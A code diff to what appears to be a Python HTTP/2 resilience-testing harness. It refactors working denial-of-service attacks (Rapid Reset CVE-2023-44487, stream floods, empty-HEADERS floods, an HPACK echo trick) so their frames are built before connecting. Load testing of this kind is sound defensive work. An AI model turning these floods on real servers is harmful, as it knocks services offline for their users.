@@ -417,6 +417,18 @@ async def probing(port: int, service: Service = WORKER) -> AsyncIterator[Prober]
         nursery.cancel_scope.cancel()
 
 
+async def batches(build: Callable[[int], bytes], first: int, count: int, size: int) -> list[bytes]:
+    """``build(i)`` for i in [first, count), joined ``size`` at a time. Attacks build
+    their bytes before they connect, so that sending them costs this process little,
+    and yield between batches, so that building does not stall the well-behaved
+    client that shares this process."""
+    chunks = []
+    for start in range(first, count, size):
+        chunks.append(b"".join(build(i) for i in range(start, min(count, start + size))))
+        await trio.lowlevel.checkpoint()
+    return chunks
+
+
 # -- the attacks ------------------------------------------------------------------------
 # Each takes the server's port and a scale, opens its own connection(s), and returns
 # its Outcome. ``scale`` multiplies the work (1.0: the figures of issue 13).
@@ -491,21 +503,23 @@ async def window_parking(
 async def rapid_reset(port: int, scale: float = 1.0, *, service: Service = WORKER) -> Outcome:
     """HEADERS + DATA + RST_STREAM (CVE-2023-44487), 20k times on one connection."""
     count = int(20_000 * scale)
+    message = service.message
+    cancel = b"\0\0\0\x08"
+    first = frame(HEADERS, END_HEADERS, 1, indexing_request_block(service.path))
+    first += frame(DATA, 0, 1, message) + frame(RST_STREAM, 0, 1, cancel)
+    chunks = await batches(
+        lambda i: (
+            frame(HEADERS, END_HEADERS, 2 * i + 1, INDEXED_REQUEST)
+            + frame(DATA, 0, 2 * i + 1, message)
+            + frame(RST_STREAM, 0, 2 * i + 1, cancel)
+        ),
+        1,
+        count,
+        500,
+    )
     async with Attacker.connect(port, "Rapid Reset") as attacker:
-        first = frame(HEADERS, END_HEADERS, 1, indexing_request_block(service.path))
-        first += frame(DATA, 0, 1, service.message) + frame(RST_STREAM, 0, 1, b"\0\0\0\x08")
         await attacker.send(opening() + first)
-        batch = 500
-        for start in range(1, count, batch):
-            chunk = b"".join(
-                frame(HEADERS, END_HEADERS, 2 * i + 1, INDEXED_REQUEST)
-                + frame(DATA, 0, 2 * i + 1, service.message)
-                + frame(RST_STREAM, 0, 2 * i + 1, b"\0\0\0\x08")
-                for i in range(start, min(count, start + batch))
-            )
-            if not await attacker.send(chunk):
-                break
-            await trio.lowlevel.checkpoint()
+        await attacker.send_all(chunks)
         await attacker.wait_closed(1.0)
         return attacker.outcome
 
@@ -517,19 +531,18 @@ async def unknown_method_echo(
     sits in the HPACK table: each tiny request would be answered with the path."""
     count = int(20_000 * scale)
     path = "/x.Y/" + "z" * path_length
+    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, indexing_request_block(path))
+    chunks = await batches(
+        lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, INDEXED_REQUEST),
+        1,
+        count,
+        1000,
+    )
     async with Attacker.connect(
         port, "unknown long method, never read", read=False, receive_buffer=4096
     ) as attacker:
-        first = frame(HEADERS, END_HEADERS | END_STREAM, 1, indexing_request_block(path))
         await attacker.send(opening() + first)
-        batch = 1000
-        for start in range(1, count, batch):
-            chunk = b"".join(
-                frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, INDEXED_REQUEST)
-                for i in range(start, min(count, start + batch))
-            )
-            if not await attacker.send(chunk):
-                break
+        await attacker.send_all(chunks)
         attacker.outcome.notes["server_stopped_reading"] = attacker.outcome.ended == "not reading"
         await attacker.drain(2.0)
         return attacker.outcome
@@ -568,18 +581,13 @@ async def stream_flood(port: int, scale: float = 1.0, *, service: Service = WORK
     """20k concurrent streams opened by HEADERS alone (each handler waits for its
     request message)."""
     count = int(20_000 * scale)
+    first = frame(HEADERS, END_HEADERS, 1, indexing_request_block(service.path))
+    chunks = await batches(
+        lambda i: frame(HEADERS, END_HEADERS, 2 * i + 1, INDEXED_REQUEST), 1, count, 1000
+    )
     async with Attacker.connect(port, "20k concurrent streams") as attacker:
-        first = frame(HEADERS, END_HEADERS, 1, indexing_request_block(service.path))
         await attacker.send(opening() + first)
-        batch = 1000
-        for start in range(1, count, batch):
-            chunk = b"".join(
-                frame(HEADERS, END_HEADERS, 2 * i + 1, INDEXED_REQUEST)
-                for i in range(start, min(count, start + batch))
-            )
-            if not await attacker.send(chunk):
-                break
-            await trio.lowlevel.checkpoint()
+        await attacker.send_all(chunks)
         await attacker.wait_closed(0.3)
         refused = attacker.outcome.resets.get("REFUSED_STREAM", 0)
         attacker.outcome.notes["streams_refused"] = refused
@@ -617,17 +625,10 @@ async def empty_headers_flood(
 ) -> Outcome:
     """HEADERS frames with an empty header block, each on a new stream."""
     count = int(20_000 * scale)
+    chunks = await batches(lambda i: frame(HEADERS, END_HEADERS, 2 * i + 1), 0, count, 1000)
     async with Attacker.connect(port, "empty HEADERS flood") as attacker:
         await attacker.send(opening())
-        batch = 1000
-        for start in range(0, count, batch):
-            chunk = b"".join(
-                frame(HEADERS, END_HEADERS, 2 * i + 1)
-                for i in range(start, min(count, start + batch))
-            )
-            if not await attacker.send(chunk):
-                break
-            await trio.lowlevel.checkpoint()
+        await attacker.send_all(chunks)
         await attacker.wait_closed(1.0)
         return attacker.outcome
 
